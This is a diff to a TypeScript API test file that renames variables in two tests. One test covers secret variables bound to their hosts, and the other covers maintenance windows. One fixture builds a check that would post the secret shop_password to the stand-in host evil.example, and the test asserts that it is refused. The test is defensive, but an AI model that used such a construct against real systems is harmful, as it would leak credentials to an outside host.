@@ -143,8 +143,8 @@ test('a secret is encrypted, masked and bound to its hosts; adding hosts require
   }
   t.is((await harness.request('DELETE', `${variables}/shop_password`)).status, 409);
 
-  const evil = check({}, { url: 'https://evil.example/', body: '{{variables.shop_password}}' });
-  const { body: refused } = await harness.request('POST', checks, { body: evil });
+  const leakingCheck = check({}, { url: 'https://evil.example/', body: '{{variables.shop_password}}' });
+  const { body: refused } = await harness.request('POST', checks, { body: leakingCheck });
   t.regex(refused.details[0].message, /would send the secret shop_password to evil\.example/);
   t.deepEqual((await harness.request('GET', variables, elsewhere)).body.items, []);
   t.is((await harness.request('DELETE', `${variables}/shop_password`, elsewhere)).status, 404);
@@ -260,15 +260,15 @@ test('a downtime is a maintenance window for checks, visible from both sides', a
     403,
   );
 
-  const { status, body: made } = await post({ name: 'by label', labels: { team: 'downtimes' } });
-  t.is(status, 200, JSON.stringify(made));
-  t.like(made, {
+  const { status, body: maintenanceWindow } = await post({ name: 'by label', labels: { team: 'downtimes' } });
+  t.is(status, 200, JSON.stringify(maintenanceWindow));
+  t.like(maintenanceWindow, {
     isActive: true,
     labels: { team: 'downtimes' },
     checkIds: [],
     checks: [{ id: one.id, name: one.name }],
   });
-  t.is((await harness.request('GET', `${windows}/${made.id}`)).body.name, 'by label');
+  t.is((await harness.request('GET', `${windows}/${maintenanceWindow.id}`)).body.name, 'by label');
   const listed = async (query = '') =>
     (await harness.request('GET', `${downtimes}${query}`, { as: 'viewer' })).body.items.map(
       ({ name }: { name: string }) => name,
@@ -292,16 +292,16 @@ test('a downtime is a maintenance window for checks, visible from both sides', a
   t.true(
     items.some(
       ({ action, resource }: { action: string; resource: { id: string } }) =>
-        action === 'maintenance-window.create' && resource.id === made.id,
+        action === 'maintenance-window.create' && resource.id === maintenanceWindow.id,
     ),
   );
-  t.is((await harness.request('DELETE', `${downtimes}/${made.id}`, elsewhere)).status, 404);
+  t.is((await harness.request('DELETE', `${downtimes}/${maintenanceWindow.id}`, elsewhere)).status, 404);
   const hosts = (await harness.request('GET', windows)).body.items.find(
     ({ name }: { name: string }) => name === 'of hosts',
   );
   t.is((await harness.request('DELETE', `${downtimes}/${hosts.id}`)).status, 404);
-  t.is((await harness.request('DELETE', `${downtimes}/${made.id}`, { as: 'editor' })).status, 200);
-  t.is((await harness.request('GET', `${windows}/${made.id}`)).status, 404);
+  t.is((await harness.request('DELETE', `${downtimes}/${maintenanceWindow.id}`, { as: 'editor' })).status, 200);
+  t.is((await harness.request('GET', `${windows}/${maintenanceWindow.id}`)).status, 404);
   t.is((await uptime()).excludedMs, 0);
   t.is((await harness.request('GET', `${checks}/${one.id}`)).body.state, null);
 });
